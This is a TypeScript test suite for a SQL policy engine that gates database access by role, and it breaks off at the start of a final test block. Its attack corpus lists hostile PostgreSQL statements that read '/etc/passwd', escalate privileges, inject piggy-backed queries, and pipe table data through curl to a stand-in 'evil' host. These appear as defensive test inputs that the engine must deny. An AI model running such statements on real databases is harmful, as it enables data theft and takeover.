/**
 * The decide stage: ordering, default deny, verb coverage, CEL conditions, the read-only guard,
 * and an attack corpus that must never get past `allow: [select]`.
 */
import assert from 'node:assert/strict';
import { before, describe, test } from 'node:test';
import fc from 'fast-check';
import type { RawConfig } from '../../src/config/index.js';
import { SluiceError } from '../../src/errors.js';
import type { Action, Identity, SqlFacts } from '../../src/pipeline/types.js';
import {
  BUILTIN_RULES,
  createPolicyEngine,
  decisionErrorCode,
  extractSqlFacts,
  initSqlParser,
  readOnlyViolation,
  sqlAction,
  type PolicyConfig,
  type PolicyEngine,
} from '../../src/policy/index.js';

before(async () => {
  await initSqlParser();
});

const ID: Identity = {
  issuer: 'https://issuer.example',
  subject: 'repo:acme/app:ref:refs/heads/main',
  claims: { repository: 'acme/app', ref: 'refs/heads/main', run_attempt: 1 },
  roles: ['ci'],
  model: 'claude-x',
  expiresAt: 2_000_000_000,
};

type Policies = RawConfig['policies'];

function engine(policies: Policies, connections?: PolicyConfig['connections']): PolicyEngine {
  return createPolicyEngine({ policies, ...(connections !== undefined ? { connections } : {}) });
}

function decideSql(e: PolicyEngine, sql: string, role = 'ci', connection = 'appdb', identity: Identity = ID) {
  return e.decideAll(identity, role, connection, sql).decision;
}

function configError(fn: () => unknown, pattern: RegExp): void {
  assert.throws(fn, (err: unknown) => {
    assert.ok(err instanceof SluiceError, String(err));
    assert.equal(err.code, 'SLUICE_CONFIG_INVALID');
    assert.match(err.message, pattern);
    return true;
  });
}

const READ_ONLY: Policies = [{ role: 'ci', connection: 'appdb', rules: [{ allow: ['select'] }] }];

describe('rule matching', () => {
  test('first match wins; unmatched statements fall to default-deny', () => {
    const e = engine([
      {
        role: 'ci',
        connection: 'appdb',
        rules: [{ allow: ['select'] }, { review: ['insert', 'update', 'delete'] }, { deny: ['ddl', 'dcl', 'copy', 'call'] }],
      },
    ]);
    assert.deepEqual(
      ['SELECT 1', 'DELETE FROM t', 'DROP TABLE t', 'LISTEN x'].map((q) => {
        const d = decideSql(e, q);
        return [d.effect, d.rule];
      }),
      [
        ['allow', 'ci/appdb#0'],
        ['review', 'ci/appdb#1'],
        ['deny', 'ci/appdb#2'],
        ['deny', 'default-deny'],
      ],
    );
    assert.match(decideSql(e, 'LISTEN x').reason, /no rule for role ci on appdb allows listen/);
  });

  test('a named rule reports its name', () => {
    const e = engine([{ role: 'ci', connection: 'appdb', rules: [{ name: 'reads', allow: ['select'] }] }]);
    assert.equal(decideSql(e, 'SELECT 1').rule, 'reads');
  });

  test('a role with no policy for the connection is denied everything', () => {
    const e = engine(READ_ONLY);
    assert.equal(decideSql(e, 'SELECT 1', 'other').effect, 'deny');
    assert.equal(decideSql(e, 'SELECT 1', 'ci', 'otherdb').rule, 'default-deny');
  });

  test("policies for role '*' or connection '*' apply too, in file order", () => {
    const e = engine([
      { role: '*', connection: '*', rules: [{ deny: ['ddl'] }] },
      { role: 'ci', connection: 'appdb', rules: [{ allow: '*' }] },
      { role: 'ci', connection: '*', rules: [{ allow: ['select'] }] },
    ]);
    assert.equal(decideSql(e, 'DROP TABLE t').rule, '*/*#0');
    assert.equal(decideSql(e, 'DELETE FROM t').rule, 'ci/appdb#0');
    assert.equal(decideSql(e, 'SELECT 1', 'ci', 'otherdb').rule, 'ci/*#0');
    assert.equal(decideSql(e, 'DELETE FROM t', 'ci', 'otherdb').effect, 'deny');
  });

  test('an allow rule must cover every effective verb; deny and review match on any', () => {
    const e = engine([{ role: 'ci', connection: 'appdb', rules: [{ allow: ['select'] }, { review: ['delete'] }] }]);
    const d = decideSql(e, 'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d');
    assert.equal(d.effect, 'review');
    assert.match(d.reason, /select, delete/);
    const e2 = engine([{ role: 'ci', connection: 'appdb', rules: [{ deny: ['delete'] }, { allow: '*' }] }]);
    assert.equal(decideSql(e2, 'MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE').effect, 'deny');
    assert.equal(decideSql(e2, 'TRUNCATE t').effect, 'deny');
    assert.equal(decideSql(e2, 'EXPLAIN ANALYZE DELETE FROM t').effect, 'deny');
    assert.equal(decideSql(e2, 'EXPLAIN DELETE FROM t').effect, 'allow');
  });

  test('allow [select, side-effect] opts in to non-allow-listed functions', () => {
    const e = engine([{ role: 'ci', connection: 'appdb', rules: [{ allow: ['select', 'side-effect'] }] }]);
    assert.equal(decideSql(e, "SELECT nextval('s')").effect, 'allow');
    assert.equal(decideSql(e, 'WITH d AS (DELETE FROM t RETURNING 1) SELECT 1').effect, 'deny');
  });

  test('aliases: read and write; names are case-insensitive', () => {
    const e = engine([{ role: 'ci', connection: 'appdb', rules: [{ allow: ['READ'] }, { review: ['Write'] }] }]);
    assert.equal(decideSql(e, 'SELECT 1').effect, 'allow');
    assert.equal(decideSql(e, 'EXPLAIN SELECT 1').effect, 'allow');
    assert.equal(decideSql(e, 'SHOW search_path').effect, 'allow');
    assert.equal(decideSql(e, 'EXPLAIN ANALYZE SELECT 1').effect, 'allow');
    assert.equal(decideSql(e, 'UPDATE t SET x = 1').effect, 'review');
    assert.equal(decideSql(e, 'MERGE INTO t USING s ON true WHEN MATCHED THEN UPDATE SET x = 1').effect, 'review');
    assert.equal(decideSql(e, 'COPY t TO STDOUT').effect, 'deny');
  });

  test("'*' allows any parsed statement, including DO and EXECUTE, but never unparseable text", () => {
    const e = engine([{ role: 'ci', connection: 'appdb', rules: [{ allow: '*' }] }]);
    assert.equal(decideSql(e, 'DO $$ BEGIN END $$').effect, 'allow');
    assert.equal(decideSql(e, 'EXECUTE p').effect, 'allow');
    const bad = decideSql(e, 'DELETE FROM');
    assert.equal(bad.effect, 'deny');
    assert.equal(bad.rule, BUILTIN_RULES.unparseable);
    assert.match(bad.reason, /syntax error/);
    assert.equal(decisionErrorCode(bad), 'SLUICE_SQL_UNPARSEABLE');
    const e2 = engine([{ role: 'ci', connection: 'appdb', rules: [{ allow: ['*'] }] }]);
    assert.equal(decideSql(e2, 'VACUUM').effect, 'allow');
    assert.equal(decideSql(e2, 'VACUUM (').rule, BUILTIN_RULES.unparseable);
  });

  test('DO and EXECUTE are allowed only by a rule naming them (or *)', () => {
    const e = engine([{ role: 'ci', connection: 'appdb', rules: [{ allow: ['select', 'insert', 'update', 'delete', 'ddl'] }, { allow: ['do'] }] }]);
    assert.equal(decideSql(e, 'EXECUTE p(1)').effect, 'deny');
    assert.equal(decideSql(e, 'DO $$ BEGIN END $$').effect, 'allow');
  });

  test('review carries the rule approval settings; decisionErrorCode maps effects', () => {
    const e = engine([
      { role: 'ci', connection: 'appdb', rules: [{ review: ['delete'], approval: { approvers: ['dba'], required: 2 } }, { deny: '*' }] },
    ]);
    const d = decideSql(e, 'DELETE FROM t');
    assert.equal(d.effect, 'review');
    assert.deepEqual(d.approval, { approvers: ['dba'], required: 2 });
    assert.equal(decisionErrorCode(d), 'SLUICE_APPROVAL_REQUIRED');
    assert.equal(decisionErrorCode(decideSql(e, 'SELECT 1')), 'SLUICE_POLICY_DENIED');
    assert.equal(decisionErrorCode(decideSql(engine([{ role: 'ci', connection: 'appdb', rules: [{ allow: '*' }] }]), 'SELECT 1')), undefined);
  });

  test('statements the parser accepts but Sluice does not classify are denied', () => {
    const e = engine([{ role: 'ci', connection: 'appdb', rules: [{ allow: '*' }] }]);
    const facts: SqlFacts = {
      kind: 'unknown',
      statement: 'FutureStmt',
      tablesRead: [],
      tablesWritten: [],
      functions: [],
      hasWhere: false,
      sideEffects: false,
      sideEffectReasons: [],
      dynamic: false,
    };
    const d = e.decide(ID, 'ci', { connection: 'appdb', kind: 'sql', verb: 'unknown', objects: [], text: 'FUTURE', sql: facts });
    assert.equal(d.effect, 'deny');
    assert.equal(d.rule, BUILTIN_RULES.unknownStatement);
  });

  test('facts without verbs (built elsewhere) are judged conservatively', () => {
    const e = engine(READ_ONLY);
    const base: SqlFacts = {
      kind: 'select',
      statement: 'SelectStmt',
      tablesRead: ['t'],
      tablesWritten: [],
      functions: [],
      hasWhere: false,
      sideEffects: false,
      sideEffectReasons: [],
      dynamic: false,
    };
    const act = (sql: SqlFacts): Action => ({ connection: 'appdb', kind: 'sql', verb: 'select', objects: [], text: 'x', sql });
    assert.equal(e.decide(ID, 'ci', act(base)).effect, 'allow');
    assert.equal(e.decide(ID, 'ci', act({ ...base, sideEffects: true, sideEffectReasons: ['x'] })).effect, 'deny');
    assert.equal(e.decide(ID, 'ci', act({ ...base, dynamic: true })).effect, 'deny');
  });

  test('decide() without facts analyses the text itself, several statements as one', () => {
    const e = engine(READ_ONLY);
    const act = (text: string): Action => ({ connection: 'appdb', kind: 'sql', verb: 'query', objects: [], text });
    assert.equal(e.decide(ID, 'ci', act('SELECT 1')).effect, 'allow');
    assert.equal(e.decide(ID, 'ci', act('SELECT 1; DROP TABLE x')).effect, 'deny');
    assert.equal(e.decide(ID, 'ci', act('SELECT (')).rule, BUILTIN_RULES.unparseable);
  });

  test('sqlAction builds the action a connector passes to decide()', () => {
    const [facts] = extractSqlFacts('UPDATE t SET x = 1 FROM u');
    assert.ok(facts);
    const a = sqlAction('appdb', 'UPDATE t SET x = 1 FROM u', facts);
    assert.deepEqual({ ...a, sql: undefined }, { connection: 'appdb', kind: 'sql', verb: 'update', objects: ['u', 't'], text: 'UPDATE t SET x = 1 FROM u', sql: undefined });
    assert.equal(engine([{ role: 'ci', connection: 'appdb', rules: [{ allow: ['update'] }] }]).decide(ID, 'ci', a).effect, 'allow');
  });
});

describe('decideAll', () => {
  const e = engine([{ role: 'ci', connection: 'appdb', rules: [{ allow: ['select'] }, { review: ['insert'] }] }]);

  test('deny wins over review wins over allow, naming the statement', () => {
    const all = e.decideAll(ID, 'ci', 'appdb', 'SELECT 1; INSERT INTO t VALUES (1); DROP TABLE x');
    assert.deepEqual(
      all.statements.map((s) => [s.text, s.decision.effect]),
      [
        ['SELECT 1', 'allow'],
        ['INSERT INTO t VALUES (1)', 'review'],
        ['DROP TABLE x', 'deny'],
      ],
    );
    assert.equal(all.decision.effect, 'deny');
    assert.match(all.decision.reason, /^statement 3 of 3: /);
    assert.equal(e.decideAll(ID, 'ci', 'appdb', 'SELECT 1; INSERT INTO t VALUES (1)').decision.effect, 'review');
    const ok = e.decideAll(ID, 'ci', 'appdb', 'SELECT 1; SELECT 2');
    assert.equal(ok.decision.effect, 'allow');
    assert.match(ok.decision.reason, /all 2 statements allowed/);
  });

  test('a single statement returns its own decision unchanged', () => {
    const d = e.decideAll(ID, 'ci', 'appdb', 'SELECT 1');
    assert.equal(d.decision, d.statements[0]?.decision);
  });

  test('the classic piggy-back `SELECT 1; DROP TABLE x` is denied', () => {
    assert.equal(e.decideAll(ID, 'ci', 'appdb', 'SELECT 1; DROP TABLE x').decision.effect, 'deny');
    assert.equal(e.decideAll(ID, 'ci', 'appdb', 'SELECT 1;DROP TABLE x--').decision.effect, 'deny');
  });

  test('unparseable text reports the parser error', () => {
    const d = e.decideAll(ID, 'ci', 'appdb', 'SELECT 1; DROP TABLE');
    assert.equal(d.decision.rule, BUILTIN_RULES.unparseable);
    assert.match(d.error ?? '', /syntax error/);
  });

  test('an empty query has no statements and is allowed (PostgreSQL runs nothing)', () => {
    const d = e.decideAll(ID, 'nobody', 'appdb', '  ;  ');
    assert.equal(d.decision.effect, 'allow');
    assert.equal(d.decision.rule, BUILTIN_RULES.emptyQuery);
    assert.equal(d.statements.length, 0);
  });
});

describe('CEL conditions', () => {
  test('conditions see identity, role, action and sql facts', () => {
    const e = engine([
      {
        role: 'ci',
        connection: 'appdb',
        rules: [
          { name: 'no-unbounded-delete', deny: ['delete', 'update'], when: '!sql.hasWhere' },
          { name: 'no-secrets', deny: '*', when: "sql.tablesRead.exists(t, t == 'secrets') || 'secrets' in action.objects" },
          { name: 'main-branch-writes', allow: ['delete', 'update'], when: "identity.claims.ref == 'refs/heads/main' && role == 'ci'" },
          { name: 'model-reads', allow: ['select'], when: "identity.model == 'claude-x' && action.connection == 'appdb'" },
        ],
      },
    ]);
    assert.equal(decideSql(e, 'DELETE FROM t').rule, 'no-unbounded-delete');
    assert.equal(decideSql(e, 'DELETE FROM t WHERE id = 1').rule, 'main-branch-writes');
    assert.equal(decideSql(e, 'SELECT * FROM secrets').rule, 'no-secrets');
    assert.equal(decideSql(e, 'SELECT * FROM public_t').rule, 'model-reads');
    const other: Identity = { ...ID, claims: { ref: 'refs/heads/feature' }, model: 'other' };
    assert.equal(decideSql(e, 'DELETE FROM t WHERE id = 1', 'ci', 'appdb', other).rule, 'default-deny');
    assert.equal(decideSql(e, 'SELECT 1', 'ci', 'appdb', other).rule, 'default-deny');
  });

  test('a condition that fails to evaluate does not match (missing claim), and the decision says which rule and why', () => {
    const e = engine([{ role: 'ci', connection: 'appdb', rules: [{ allow: ['select'], when: 'identity.claims.nope == 1' }] }]);
    const d = decideSql(e, 'SELECT 1');
    assert.equal(d.effect, 'deny');
    assert.match(d.reason, /rule .* \(allow\) did not apply: its condition could not be evaluated \(No such key: nope\)/);
    // A deny passed over this way is named in the allow that follows, for the audit log and `policy check`.
    const skipped = engine([
      {
        role: 'ci',
        connection: 'appdb',
        rules: [
          { name: 'not-outside-prod', deny: ['select'], when: 'identity.claims.environment != "prod"' },
          { name: 'reads', allow: ['select'] },
        ],
      },
    ]);
    const a = decideSql(skipped, 'SELECT 1');
    assert.equal(a.effect, 'allow');
    assert.match(a.reason, /^allowed by rule reads: select; rule not-outside-prod \(deny\) did not apply: its condition could not be evaluated \(No such key: environment\)$/);
    const guarded = engine([{ role: 'ci', connection: 'appdb', rules: [{ name: 'guarded', deny: ['select'], when: '!has(identity.claims.environment) || identity.claims.environment != "prod"' }, { allow: ['select'] }] }]);
    assert.equal(decideSql(guarded, 'SELECT 1').rule, 'guarded', 'has() makes an optional claim explicit');
    // A condition that is not a boolean does not hold either.
    const notBool = engine([{ role: 'ci', connection: 'appdb', rules: [{ allow: ['select'], when: 'identity.claims.repository' }] }]);
    assert.match(decideSql(notBool, 'SELECT 1').reason, /gave a string, not true or false/);
  });

  test('a bad CEL condition stops startup with the rule path', () => {
    configError(() => engine([{ role: 'ci', connection: 'appdb', rules: [{ allow: ['select'] }, { allow: ['select'], when: 'sql.(' }] }]), /policies\[0\]\.rules\[1\]\.when/);
  });
});

describe('config validation', () => {
  test('an unknown SQL kind is a config error naming the entry', () => {
    configError(() => engine([{ role: 'ci', connection: 'appdb', rules: [{ deny: ['delete', 'dorp'] }] }]), /policies\[0\]\.rules\[0\]\.deny\[1\]: unknown SQL kind "dorp"/);
  });

  test("naming 'unknown' is refused: unparseable SQL is always denied", () => {
    configError(() => engine([{ role: 'ci', connection: 'appdb', rules: [{ allow: ['select', 'unknown'] }] }]), /always denied/);
  });

  test('non-SQL connections keep their own verbs; path rules on PostgreSQL are refused', () => {
    const connections = [
      { name: 'api', type: 'http', upstream: { url: 'https://api.example' } },
      { name: 'appdb', type: 'postgres', upstream: { host: 'h', port: 5432, database: 'd', user: 'u', sslmode: 'disable', connectTimeoutMs: 1 } },
    ] as unknown as PolicyConfig['connections'];
    const e = engine([{ role: 'ci', connection: 'api', rules: [{ allow: ['GET'] }, { deny: ['delete'], paths: ['/admin/*'] }] }], connections);
    const http = (verb: string): Action => ({ connection: 'api', kind: 'http', verb, objects: ['/x'], text: `${verb} /x` });
    assert.equal(e.decide(ID, 'ci', http('GET')).effect, 'allow');
    // Path globs are not evaluated here: reaching a path rule refuses rather than ignoring its paths.
    assert.equal(e.decide(ID, 'ci', http('DELETE')).effect, 'deny');
    configError(() => engine([{ role: 'ci', connection: 'appdb', rules: [{ allow: ['get'] }] }], connections), /unknown SQL kind "get"/);
    configError(() => engine([{ role: 'ci', connection: 'appdb', rules: [{ deny: ['select'], paths: ['/x'] }] }], connections), /paths apply to HTTP/);
  });
});

describe('version', () => {
  test('is a sha256 of the policies, independent of key order, and changes with them', () => {
    const a = engine([{ role: 'ci', connection: 'appdb', rules: [{ allow: ['select'], name: 'r' }] }]);
    const b = engine([{ rules: [{ name: 'r', allow: ['select'] }], connection: 'appdb', role: 'ci' }]);
    const c = engine([{ role: 'ci', connection: 'appdb', rules: [{ allow: ['select', 'insert'], name: 'r' }] }]);
    assert.match(a.version, /^sha256:[0-9a-f]{64}$/);
    assert.equal(a.version, b.version);
    assert.notEqual(a.version, c.version);
  });
});

describe('read-only roles', () => {
  test('isReadOnly: only read verbs in allow and review rules', () => {
    const e = engine([
      { role: 'ro', connection: 'appdb', rules: [{ allow: ['read', 'set', 'transaction'] }, { deny: '*' }] },
      { role: 'rw', connection: 'appdb', rules: [{ allow: ['select'] }, { review: ['delete'] }] },
      { role: 'all', connection: 'appdb', rules: [{ allow: '*' }] },
      { role: 'fn', connection: 'appdb', rules: [{ allow: ['select', 'side-effect'] }] },
      { role: 'ex', connection: 'appdb', rules: [{ allow: ['select', 'execute'] }] },
    ]);
    assert.equal(e.isReadOnly('ro', 'appdb'), true);
    assert.equal(e.isReadOnly('rw', 'appdb'), false);
    assert.equal(e.isReadOnly('all', 'appdb'), false);
    assert.equal(e.isReadOnly('fn', 'appdb'), false);
    assert.equal(e.isReadOnly('ex', 'appdb'), false);
    assert.equal(e.isReadOnly('nobody', 'appdb'), true);
  });

  const guarded = engine([{ role: 'ro', connection: 'appdb', rules: [{ allow: ['select', 'show', 'set', 'transaction'] }] }]);
  const writable = engine([{ role: 'rw', connection: 'appdb', rules: [{ allow: '*' }] }]);

  const UNDO = [
    'SET default_transaction_read_only = off',
    'SET LOCAL "DEFAULT_TRANSACTION_READ_ONLY" = false',
    'SET default_transaction_read_only = 0',
    "SET default_transaction_read_only = 'of'",
    'SET default_transaction_read_only = on, off',
    'SET transaction_read_only = off',
    'SET transaction_read_only TO no',
    'SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE',
    'SET TRANSACTION READ WRITE',
    'BEGIN READ WRITE',
    'START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE',
    'SET ROLE postgres',
    'RESET ROLE',
    'SET SESSION AUTHORIZATION postgres',
    'SET session_replication_role = replica',
  ];
  for (const sql of UNDO) {
    test(`guard denies for a read-only role: ${sql}`, () => {
      assert.equal(guarded.isReadOnly('ro', 'appdb'), true);
      const d = decideSql(guarded, sql, 'ro');
      assert.equal(d.effect, 'deny');
      assert.equal(d.rule, BUILTIN_RULES.readOnlyGuard);
      assert.match(d.reason, /read-only/);
    });
  }

  test('set_config() is refused twice over: not read-only (side-effect verb) and named by the guard', () => {
    const e = engine([{ role: 'ro', connection: 'appdb', rules: [{ allow: ['select', 'set'] }] }]);
    const sql = "SELECT pg_catalog.set_config('default_transaction_read_only', 'off', false)";
    const d = decideSql(e, sql, 'ro');
    assert.equal(d.effect, 'deny');
    assert.match(d.reason, /set_config\(\)/);
    const [facts] = extractSqlFacts(sql);
    assert.ok(facts);
    assert.match(readOnlyViolation(facts) ?? '', /set_config\(\) can change session settings/);
    assert.equal(readOnlyViolation(extractSqlFacts("SELECT current_setting('x')")[0] as SqlFacts), undefined);
  });

  test('resets pass for a read-only role: they return to the startup value, which Sluice set to on', () => {
    // Checked against PostgreSQL in test/e2e/postgres-parser-safety.test.ts: after RESET ALL or
    // DISCARD ALL the read-only session is still read-only.
    for (const sql of ['RESET ALL', 'DISCARD ALL', 'RESET default_transaction_read_only', 'SET SESSION default_transaction_read_only TO DEFAULT', 'SET default_transaction_read_only = on', "SET transaction_read_only = 'true'", 'SET default_transaction_read_only TO 1']) {
      const d = decideSql(guarded, sql, 'ro');
      assert.equal(d.effect, 'allow', `${sql}: ${d.reason}`);
    }
  });

  test('harmless SET and read-only transactions still pass for a read-only role', () => {
    for (const sql of ["SET search_path = app, public", 'SET TRANSACTION READ ONLY', 'BEGIN READ ONLY', 'BEGIN', 'COMMIT', "SET application_name = 'x'", 'DISCARD PLANS']) {
      assert.equal(decideSql(guarded, sql, 'ro').effect, 'allow', sql);
    }
  });

  test('the guard does not apply to a role that may write', () => {
    assert.equal(decideSql(writable, 'SET default_transaction_read_only = off', 'rw').effect, 'allow');
    assert.equal(decideSql(writable, 'BEGIN READ WRITE', 'rw').effect, 'allow');
  });
});

/**
 * Writes and escapes that must never be allowed for a role whose only rule is `allow: [select]`
 * (or the `read` alias). Each is real PostgreSQL syntax unless marked garbage.
 */
const ATTACKS: readonly string[] = [
  "SELECT nextval('seq')",
  "SELECT setval('seq', 1)",
  'SELECT pg_terminate_backend(1234)',
  'SELECT pg_cancel_backend(1234)',
  'SELECT pg_catalog.pg_terminate_backend(pid) FROM pg_stat_activity',
  "SELECT set_config('default_transaction_read_only', 'off', false)",
  "SELECT lo_import('/etc/passwd')",
  "SELECT lo_export(1234, '/tmp/x')",
  "SELECT lo_unlink(1234)",
  "SELECT dblink_exec('dbname=x', 'DROP TABLE t')",
  "SELECT * FROM dblink('dbname=x', 'DELETE FROM t RETURNING 1') AS r(x int)",
  "SELECT query_to_xml('DELETE FROM t RETURNING 1', true, true, '')",
  "SELECT cursor_to_xml('c', 1, true, true, '')",
  "SELECT ts_stat('DELETE FROM t RETURNING 1')",
  "SELECT pg_read_file('/etc/passwd')",
  "SELECT pg_read_binary_file('/etc/passwd')",
  "SELECT pg_ls_dir('/')",
  "SELECT pg_stat_file('/etc/passwd')",
  'SELECT pg_reload_conf()',
  'SELECT pg_advisory_lock(1)',
  'SELECT pg_try_advisory_lock(1)',
  "SELECT pg_notify('ch', 'x')",
  'SELECT txid_current()',
  'SELECT pg_current_xact_id()',
  'SELECT pg_sleep(100)',
  'SELECT pg_switch_wal()',
  "SELECT pg_create_restore_point('x')",
  'SELECT my_schema.lower(x) FROM t',
  'SELECT evil_function()',
  'SELECT * FROM t WHERE x = (SELECT nextval(\'s\'))',
  'SELECT count(*) FROM t GROUP BY x HAVING max(nextval(\'s\')) > 0',
  'SELECT * FROM generate_series(1, 3) g, LATERAL (SELECT pg_terminate_backend(g)) x',
  "SELECT * FROM t ORDER BY setval('s', 1)",
  'SELECT ARRAY(SELECT nextval(\'s\'))',
  'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d',
  'WITH u AS (UPDATE t SET x = 1 RETURNING *) SELECT 1',
  'WITH i AS (INSERT INTO t VALUES (1) RETURNING *) SELECT 1',
  'WITH a AS (SELECT 1), d AS (DELETE FROM t RETURNING 1) SELECT * FROM a',
  'SELECT * INTO TEMP stolen FROM secrets',
  'SELECT * INTO UNLOGGED t2 FROM t',
  'SELECT * FROM t FOR UPDATE',
  'SELECT * FROM t FOR NO KEY UPDATE NOWAIT',
  'SELECT * FROM t FOR SHARE',
  'CREATE TEMP TABLE x AS SELECT 1',
  'CREATE TABLE x AS SELECT * FROM secrets',
  'CREATE MATERIALIZED VIEW mv AS SELECT 1',
  'REFRESH MATERIALIZED VIEW mv',
  'LOCK TABLE t',
  'LISTEN ch',
  "NOTIFY ch, 'x'",
  'VACUUM FULL t',
  'ANALYZE t',
  'CHECKPOINT',
  'CLUSTER t',
  'REINDEX TABLE t',
  "LOAD 'plpgsql'",
  'PREPARE p AS DELETE FROM t',
  'PREPARE p AS SELECT 1',
  'EXECUTE p',
  'EXECUTE p(1, 2)',
  "DO $$ BEGIN DELETE FROM t; END $$",
  "DO LANGUAGE plpgsql 'BEGIN NULL; END'",
  'CALL proc()',
  "COPY t TO PROGRAM 'curl -d @- evil'",
  "COPY t FROM PROGRAM 'id'",
  "COPY (SELECT 1) TO '/tmp/x'",
  'COPY t TO STDOUT',
  'COPY t FROM STDIN',
  'EXPLAIN ANALYZE DELETE FROM t',
  'EXPLAIN (ANALYZE) INSERT INTO t VALUES (1)',
  'EXPLAIN ANALYZE SELECT * INTO x FROM t',
  'EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1',
  'DELETE FROM t',
  'UPDATE t SET x = 1 WHERE false',
  'INSERT INTO t VALUES (1)',
  'MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE',
  'TRUNCATE t',
  'DROP TABLE t',
  'ALTER TABLE t ADD COLUMN c int',
  'CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$',
  'GRANT ALL ON t TO public',
  'ALTER ROLE me SUPERUSER',
  "ALTER SYSTEM SET default_transaction_read_only = off",
  'SET default_transaction_read_only = off',
  'SET ROLE postgres',
  'SET SESSION AUTHORIZATION postgres',
  'BEGIN READ WRITE',
  'SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE',
  // settings that make the server read SQL differently from the parser (sql/parser-safety.ts)
  'SET standard_conforming_strings = off',
  "SET standard_conforming_strings TO 'false'",
  "SET NAMES 'SJIS'",
  'SET client_encoding TO big5',
  "SELECT set_config('standard_conforming_strings', 'off', false)",
  "SELECT set_config('Client_Encoding', 'GBK', true)",
  "UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'",
  'SHOW ALL; DELETE FROM t',
  'SELECT 1; DROP TABLE x',
  'SELECT 1; DELETE FROM t; --',
  'SELECT 1 /* ; */ ; DELETE FROM t',
  "SELECT $$ ; $$; DELETE FROM t",
  'select 1;\nDeLeTe FrOm T',
  'SELECT 1\0; DROP TABLE t',
  'DROP TABLE x; SELECT 1',
  // garbage and near-misses
  'SELEC 1',
  'SELECT * FROM',
  "SELECT 'unterminated",
  'SELECT $$ unterminated',
  '/* unterminated comment SELECT 1',
  '\u0000',
  'SELECT \uD800',
  '🙂',
  'DELETE',
  "'; DROP TABLE users; --",
];

describe('session control', () => {
  const CONTROL = ['BEGIN', 'BEGIN ISOLATION LEVEL SERIALIZABLE', 'START TRANSACTION READ ONLY', 'COMMIT', 'END', 'ROLLBACK', 'ABORT', 'SAVEPOINT s', 'RELEASE SAVEPOINT s', 'ROLLBACK TO SAVEPOINT s', 'COMMIT AND CHAIN', 'DEALLOCATE p', 'DEALLOCATE PREPARE "Q"', 'DEALLOCATE ALL'];

  test('transaction control and DEALLOCATE pass a rule list written for the data, even past deny: *', () => {
    for (const policies of [READ_ONLY, [{ role: 'ci', connection: 'appdb', rules: [{ allow: ['select'] }, { deny: '*' as const }] }], [{ role: 'ci', connection: 'appdb', rules: [{ review: '*' as const }] }]] satisfies Policies[]) {
      const e = engine(policies);
      for (const sql of CONTROL) {
        const d = decideSql(e, sql);
        assert.deepEqual([d.effect, d.rule], ['allow', BUILTIN_RULES.sessionControl], sql);
        assert.match(d.reason, /only controls the session/);
      }
    }
  });

  test('a rule that names transaction or prepare still decides them', () => {
    const e = engine([{ role: 'ci', connection: 'appdb', rules: [{ allow: ['select'] }, { deny: ['transaction'], name: 'no-tx' }, { review: ['prepare'], name: 'prep' }] }]);
    assert.equal(decideSql(e, 'BEGIN').rule, 'no-tx');
    assert.equal(decideSql(e, 'COMMIT').effect, 'deny');
    assert.deepEqual([decideSql(e, 'DEALLOCATE ALL').effect, decideSql(e, 'DEALLOCATE ALL').rule], ['review', 'prep']);
  });

  test("drivers' connection resets are session control: CLOSE, UNLISTEN, RESET ALL, DISCARD (asyncpg, PgBouncer)", () => {
    for (const policies of [READ_ONLY, [{ role: 'ci', connection: 'appdb', rules: [{ allow: ['select'] }, { deny: '*' as const }] }]] satisfies Policies[]) {
      const e = engine(policies);
      for (const sql of [
        'CLOSE ALL', 'CLOSE c', 'UNLISTEN *', 'UNLISTEN chan', 'RESET ALL', 'DISCARD ALL', 'DISCARD PLANS', 'DISCARD TEMP',
        // transaction modes and formats drivers and frameworks set (JDBC, psycopg2, Django, Rails)
        'SET TRANSACTION ISOLATION LEVEL SERIALIZABLE', 'SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY',
        'SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL REPEATABLE READ', "SET default_transaction_isolation TO 'read committed'",
        "SET TIME ZONE 'UTC'", "SET SESSION timezone TO 'UTC'", 'SET DateStyle = ISO', 'SET intervalstyle = iso_8601',
        'SET extra_float_digits = 3', "SET application_name = 'PostgreSQL JDBC Driver'", "SET client_min_messages TO 'warning'",
        // SQLAlchemy asks on connect
        'SHOW transaction isolation level', 'show standard_conforming_strings', 'SHOW search_path', 'SHOW server_version', 'SET standard_conforming_strings = on', "SET client_encoding = 'UTF8'", 'RESET timezone',
      ]) {
        assert.equal(decideSql(e, sql).effect, 'allow', sql);
      }
      // asyncpg's whole reset, as one query.
      const all = e.decideAll(ID, 'ci', 'appdb', 'SELECT pg_advisory_unlock_all();\nCLOSE ALL;\nUNLISTEN *;\nRESET ALL;');
      assert.equal(all.decision.effect, 'allow', all.decision.reason);
    }
    const named = engine([{ role: 'ci', connection: 'appdb', rules: [{ allow: ['select'] }, { deny: ['set'], name: 'no-set' }, { deny: ['listen'], name: 'no-listen' }] }]);
    assert.equal(decideSql(named, 'RESET ALL').rule, 'no-set');
    assert.equal(decideSql(named, 'DISCARD ALL').rule, 'no-set');
    assert.equal(decideSql(named, 'UNLISTEN *').rule, 'no-listen');
    assert.equal(decideSql(engine(READ_ONLY), 'LISTEN chan').effect, 'deny');
  });

  test('two-phase commit, SET TRANSACTION and anything else are not session control', () => {
    const e = engine(READ_ONLY);
    for (const sql of ["PREPARE TRANSACTION 't'", "COMMIT PREPARED 't'", "ROLLBACK PREPARED 't'", 'RESET search_path', 'SHOW ALL', "SET search_path = evil, pg_catalog", 'SET statement_timeout = 0', 'SET ROLE postgres', "SET bytea_output = 'escape'", 'PREPARE p AS SELECT 1', 'EXECUTE p', 'BEGIN; DELETE FROM t; COMMIT']) {
      const d = decideSql(e, sql);
      assert.notEqual(d.effect, 'allow', sql);
    }
  });

  test('the read-only guard still refuses BEGIN READ WRITE first', () => {
    const d = decideSql(engine(READ_ONLY), 'BEGIN READ WRITE');
    assert.deepEqual([d.effect, d.rule], ['deny', BUILTIN_RULES.readOnlyGuard]);
  });
});

describe('attack corpus under allow: [select]', () => {
  const strict = engine(READ_ONLY);
